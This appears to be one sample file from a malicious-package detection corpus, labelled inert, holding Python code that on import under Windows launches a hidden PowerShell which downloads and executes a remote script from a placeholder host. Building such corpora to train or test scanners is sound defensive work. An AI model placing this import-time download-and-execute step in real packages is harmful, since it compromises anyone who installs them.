# pkgguard corpus 015 (import-time), modelled on [taxonomy]; inert, never run.
import subprocess
import sys

if sys.platform == "win32":
    subprocess.Popen("cmd /c start /min powershell -nop -w hidden -c \"iex (New-Object Net.WebClient).DownloadString('https://cdn.example/r.ps1')\"", shell=True)
